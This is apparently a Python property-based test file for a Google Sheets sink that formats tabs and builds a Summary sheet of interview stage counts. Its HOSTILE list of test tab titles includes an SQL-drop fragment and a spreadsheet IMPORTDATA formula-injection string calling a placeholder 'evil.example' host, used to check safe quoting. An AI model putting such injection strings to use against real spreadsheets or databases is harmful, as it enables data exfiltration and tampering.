"""The requests of the formatting and of the Summary, on spreadsheets of any shape."""

from __future__ import annotations

import re
from dataclasses import replace

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connector.emulators.google.calls import Call, apply_all, get
from connector.emulators.google.cells import Formula, value_of
from connector.emulators.google.errors import GoogleError
from connector.emulators.google.model import Book, Tab, Tag
from connector.emulators.google.schema import discovery, read_body, read_mask
from connector.interview import STAGE_WORDS
from connector.languages import language
from sinks.google_sheets.api_replies import OBJECTS_FIELDS, SpreadsheetObjects
from sinks.google_sheets.api_requests import column_letters
from sinks.google_sheets.formatting import format_tab, formatting_body
from sinks.google_sheets.sheet_view import TabView
from sinks.google_sheets.summary import WAITING_TAG, Source, summarize
from sinks.google_sheets.tabs import IdAllocator, Layout
from sinks.spreadsheet.columns import KEY, SPECS

ENGLISH = language("en")
GET = discovery().method("spreadsheets.get")
WRITE = discovery().method("spreadsheets.batchUpdate")
WIDTH = 14
WAITING = ["To evaluate: average days", "To evaluate: longest, days"]
HOSTILE = ["=1+1", "*", "~", "'); DROP", '"&IMPORTDATA("https://evil.example")&"', "O'Brien", "@x", "Summary", "!A1:B2"]
REFERENCE = re.compile(r"'(?:[^']|'')*'!\$?[A-Z]+(?::\$?[A-Z]+|\$\d+)")
titles = st.one_of(st.sampled_from(HOSTILE), st.text("ab'!\"$;&=(", min_size=1, max_size=8))


class SheetHarness:
    """A spreadsheet in memory with unformatted tabs of the sink."""

    def __init__(self, places, *names):
        """`places`: where each field has its column, in every tab."""
        self.places = places
        self.book = Book("harness", "SheetHarness", "UTC", set(), tabs=[Tab.blank(0, "People's")])
        for number, name in enumerate(names, start=1):
            self.add(number, name)

    def add(self, sheet_id, title):
        tab = Tab.blank(sheet_id, title, 20, WIDTH)
        self.book.tabs.append(tab)
        for field, place in self.places.items():
            tag = sheet_id * 100 + place + 1
            self.book.add_tag(Tag(tag, "hf.col", field, "DOCUMENT", sheet_id, "COLUMNS", tab.column_lines[place]))

    def snapshot(self, *sheet_ids):
        for sheet_id in sheet_ids:
            tags = {field: sheet_id * 100 + place + 1 for field, place in self.places.items()}
            view = TabView(
                sheet_id, self.book.tab(sheet_id).title, "UTC", 20, WIDTH, [""] * WIDTH, {}, (), (), unformatted=True
            )
            yield view, Layout(at=self.places, tags=tags)

    def objects(self):
        call = Call({}, {}, {}, read_mask(GET, OBJECTS_FIELDS), fields=True)
        return msgspec.json.decode(msgspec.json.encode(get(self.book, call)), type=SpreadsheetObjects)

    def format_new_tabs(self, *sheet_ids, per_position=False, objects=None):
        body = formatting_body(
            list(self.snapshot(*sheet_ids)), objects or self.objects(), ENGLISH, per_position=per_position
        )
        draft = self.book.copy()
        apply_all(draft, read_body(WRITE, msgspec.json.encode(body))["requests"])
        self.book = draft

    def numbers(self):
        """The ids of all objects, without tags."""
        objects = [(tab.id, tab.objects) for tab in self.book.tabs]
        names = {"filterViews": "filterViewId", "protectedRanges": "protectedRangeId", "charts": "chartId"}
        inner = [each[name] for _, held in objects for kind, name in names.items() for each in held.get(kind, [])]
        return [tab.id for tab in self.book.tabs] + inner

    def cells(self, title):
        rows = [[value_of(cell) for cell in row] for row in self.book.titled(title).rows]
        return [[value for value in row if value is not None] for row in rows if any(row)]


layouts = st.permutations(range(WIDTH)).flatmap(
    lambda places: st.sets(st.sampled_from([name for name in SPECS if name != KEY]), max_size=10).map(
        lambda names: dict(zip(sorted({*names, KEY}), places, strict=False))
    )
)
USUAL = {name: place for place, name in enumerate(list(SPECS)[:12])}


def formulas(harness, title):
    return [value for row in harness.cells(title) for value in row if isinstance(value, Formula)]


@settings(max_examples=60, deadline=None)
@given(layouts, st.lists(titles, min_size=1, max_size=5, unique_by=str.casefold), st.booleans())
def test_all_new_tabs_are_formatted_in_one_write_with_unique_ids(places, names, per_position):
    """Each body is what Google's discovery document allows, and every range lies in its tab."""
    harness = SheetHarness(places, *names)
    harness.format_new_tabs(*range(1, len(names) + 1), per_position=per_position)
    numbers = harness.numbers()
    assert len(set(numbers)) == len(numbers)
    assert sorted(numbers)[1] > 0
    assert harness.book.titled("People's").objects == {}


@settings(max_examples=30, deadline=None)
@given(layouts, st.booleans())
def test_a_second_time_is_refused_as_a_whole(places, per_position):
    harness = SheetHarness(places, "One", "Two")
    old = harness.objects()
    harness.format_new_tabs(1, per_position=per_position)
    before = harness.numbers()
    for objects in (old, harness.objects()):
        with pytest.raises(GoogleError, match="already exists"):
            harness.format_new_tabs(1, 2, per_position=per_position, objects=objects)
    assert harness.numbers() == before


def test_a_column_that_moved_since_refuses_it():
    harness = SheetHarness(USUAL, "One")
    snapshot, objects = list(harness.snapshot(1)), harness.objects()
    harness.book.tab(1).move("COLUMNS", 0, 1, 5)
    with pytest.raises(GoogleError):
        apply_all(harness.book, formatting_body(snapshot, objects, ENGLISH, per_position=False)["requests"])


def test_ids_in_use_are_gone_around():
    objects = SpreadsheetObjects(properties=None)
    first = IdAllocator(objects).id("x")
    harness = SheetHarness(USUAL, "One")
    harness.add(first, "has that very number")
    assert IdAllocator(objects).id("x") == first
    assert IdAllocator(harness.objects()).id("x") == first + 1


@settings(max_examples=60, deadline=None)
@given(layouts, st.lists(titles, min_size=1, max_size=3, unique_by=str.casefold), st.booleans())
def test_no_formula_holds_a_text_that_is_not_ours(places, names, per_position):
    """Without its references to cells a formula is the same for any titles of tabs."""
    harness, plain = (
        SheetHarness(places, *names),
        SheetHarness(places, *(f"Plain {place}" for place in range(len(names)))),
    )
    for each in (harness, plain):
        each.format_new_tabs(*range(1, len(names) + 1), per_position=per_position)
    unformatted = [
        [REFERENCE.sub("@", text) for tab in each.book.tabs for text in _formulas_of(tab)] for each in (harness, plain)
    ]
    assert unformatted[0] == unformatted[1]
    assert bool(unformatted[0]) == ("stage" in places)


def _formulas_of(tab):
    return [value for row in tab.rows for cell in row if isinstance(value := value_of(cell), Formula)]


@settings(max_examples=40, deadline=None)
@given(layouts.filter(lambda places: "stage" in places), st.sampled_from(HOSTILE))
def test_whole_columns_are_counted_wherever_they_stand(places, title):
    harness = SheetHarness(places, title)
    harness.format_new_tabs(1)
    assert [tab.title for tab in harness.book.tabs][::2] == [title, "People's"]
    summary = harness.book.tabs[1].title
    quoted = "'" + title.replace("'", "''") + "'"
    letters = {name: column_letters(place) for name, place in places.items()}
    for formula in formulas(harness, summary)[: len(STAGE_WORDS)]:
        assert f"{quoted}!{letters['stage']}:{letters['stage']}" in formula
        assert f"{quoted}!{letters[KEY]}:{letters[KEY]}" in formula


def test_the_header_of_the_summary_has_the_words_that_are_counted():
    harness = SheetHarness(USUAL, "Interviews")
    harness.format_new_tabs(1)
    header, totals, positions = harness.cells("Summary")
    assert header == ["Position", *STAGE_WORDS.values(), "All", *WAITING]
    assert totals[0] == "All positions"
    assert totals[1] == "=COUNTIFS('Interviews'!E:E;B$1;'Interviews'!L:L;\"?*\";'Interviews'!L:L;" + _other(
        "Interviews"
    )
    assert positions[0].startswith("=IFERROR(SORT(UNIQUE(FILTER('Interviews'!D:D;")
    assert len(positions) == len(header)


def test_waiting_times_are_those_of_interviews_to_evaluate_per_position_and_in_total():
    harness = SheetHarness(USUAL, "Interviews")
    harness.format_new_tabs(1)
    _, totals, positions = harness.cells("Summary")
    chosen = "'Interviews'!E:E;C$1;'Interviews'!H:H;\">0\""
    assert totals[-2] == f"=IF(COUNTIFS({chosen})=0;\"\";NOW()-AVERAGEIFS('Interviews'!H:H;{chosen}))"
    assert totals[-1] == f"=IF(COUNTIFS({chosen})=0;\"\";NOW()-MINIFS('Interviews'!H:H;{chosen}))"
    for formula in positions[-2:]:
        assert formula.startswith('=MAP($A3:$A;LAMBDA(position;IF(position="";"";IF(COUNTIFS(\'Interviews\'!D:D;"="&')
        assert chosen in formula


def test_waiting_times_of_all_tabs_together_weigh_each_by_its_interviews():
    harness = SheetHarness(USUAL, "Sales", "Legal")
    harness.format_new_tabs(1, 2, per_position=True)
    _, totals, sales, _ = harness.cells("Summary")
    assert totals[-2] == '=IF(SUM(C3:C)=0;"";SUMPRODUCT(C3:C;H3:H)/SUM(C3:C))'
    assert totals[-1] == '=IF(COUNT(I3:I)=0;"";MAX(I3:I))'
    assert "NOW()-MINIFS('Sales'!H:H;" in sales[-1]


def test_a_summary_of_an_earlier_release_gets_no_waiting_times_without_a_header():
    harness = SheetHarness(USUAL, "Sales", "Legal")
    harness.format_new_tabs(1, per_position=True)
    [tag] = [tag for tag in harness.book.tags.values() if tag.key == WAITING_TAG]
    del harness.book.tags[tag.id]
    harness.format_new_tabs(2, per_position=True)
    _, _, sales, legal = harness.cells("Summary")
    assert (len(sales), len(legal)) == (9, 7)


def _other(title):
    cell = f"'{title}'!L$1"
    for sign in "~*?":
        cell = f'SUBSTITUTE({cell};"{sign}";"~{sign}")'
    return f'"<>"&{cell})'


def test_every_position_with_a_tab_of_its_own_is_a_row_of_one_summary():
    """The name is a text. The first two positions are new together, the third one later."""
    harness = SheetHarness(USUAL, "=1+1", "Sales")
    harness.format_new_tabs(1, 2, per_position=True)
    harness.add(3, "Legal")
    harness.format_new_tabs(3, per_position=True)
    assert [tab.title for tab in harness.book.tabs if "Summary" in tab.title] == ["Summary"]
    rows = harness.cells("Summary")
    assert [row[0] for row in rows[1:]] == ["All positions", "=1+1", "Sales", "Legal"]
    assert not isinstance(rows[2][0], Formula)
    assert rows[1][1] == "=SUM(B3:B)"
    assert rows[4][2].startswith("=COUNTIFS('Legal'!E:E;C$1;")


def test_a_summary_that_users_deleted_stays_deleted():
    harness = SheetHarness(USUAL, "Sales", "Legal")
    harness.format_new_tabs(1, per_position=True)
    harness.book.delete_tab(harness.book.titled("Summary"))
    harness.format_new_tabs(2, per_position=True)
    assert [tab.title for tab in harness.book.tabs] == ["Sales", "People's", "Legal"]


def test_a_renamed_summary_is_still_updated():
    harness = SheetHarness(USUAL, "Sales", "Legal")
    harness.format_new_tabs(1, per_position=True)
    harness.book.titled("Summary").title = "Overview"
    harness.format_new_tabs(2, per_position=True)
    assert [row[0] for row in harness.cells("Overview")][2:] == ["Sales", "Legal"]


def test_a_title_in_use_gets_a_number():
    harness = SheetHarness(USUAL, "Interviews", "More", "SUMMARY")
    harness.format_new_tabs(1)
    harness.format_new_tabs(2)
    titles = [tab.title for tab in harness.book.tabs]
    assert [title for title in titles if title.startswith("Summary (")] == ["Summary (3)", "Summary (2)"]


def test_without_a_stage_there_is_nothing_to_count_and_to_colour():
    places = {name: place for name, place in USUAL.items() if name != "stage"}
    [(view, layout)] = SheetHarness(places, "One").snapshot(1)
    objects = SpreadsheetObjects(properties=None)
    assert summarize([Source(view, layout)], objects, IdAllocator(objects), ENGLISH, per_position=False) == []
    requests = format_tab(view, layout, IdAllocator(objects), ENGLISH)
    assert "addConditionalFormatRule" not in {kind for request in requests for kind in request}
    views = [request["addFilterView"]["filter"]["title"] for request in requests if "addFilterView" in request]
    assert views == ["Newest first"]


@pytest.mark.parametrize(("place", "frozen"), [(0, 1), (2, 3), (3, 0), (None, 0)])
def test_the_name_stays_in_sight_as_long_as_that_leaves_room(place, frozen):
    places = {KEY: 13} if place is None else {KEY: 13, "candidate_name": place}
    harness = SheetHarness(places, "One")
    harness.format_new_tabs(1)
    assert harness.book.tab(1).grid == {"frozenRowCount": 1} | (
        {"frozenColumnCount": frozen} if frozen else {"frozenColumnCount": 0}
    )


def test_the_chart_shows_the_row_of_all_positions():
    harness = SheetHarness(USUAL, "One")
    harness.format_new_tabs(1)
    [chart] = harness.book.titled("Summary").objects["charts"]
    basic = chart["spec"]["basicChart"]
    [series] = basic["series"][0]["series"]["sourceRange"]["sources"]
    assert (series["startRowIndex"], series["endRowIndex"]) == (1, 2)
    assert series["endColumnIndex"] - series["startColumnIndex"] == len(STAGE_WORDS)


def test_looks_begin_at_the_header_wherever_that_is():
    [(view, layout)] = SheetHarness(USUAL, "One").snapshot(1)
    objects = SpreadsheetObjects(properties=None)
    free = IdAllocator(objects)
    wanted = [
        *format_tab(replace(view, header_row=3), layout, free, ENGLISH),
        *summarize([Source(replace(view, header_row=3), layout)], objects, free, ENGLISH, per_position=False),
    ]
    texts = msgspec.json.encode(wanted).decode()
    assert '"frozenRowCount":4' in texts
    assert "'One'!L$4" in texts
    starts = [each["repeatCell"]["range"]["startRowIndex"] for each in wanted if "repeatCell" in each]
    assert set(starts[:-2]) == {3, 4}
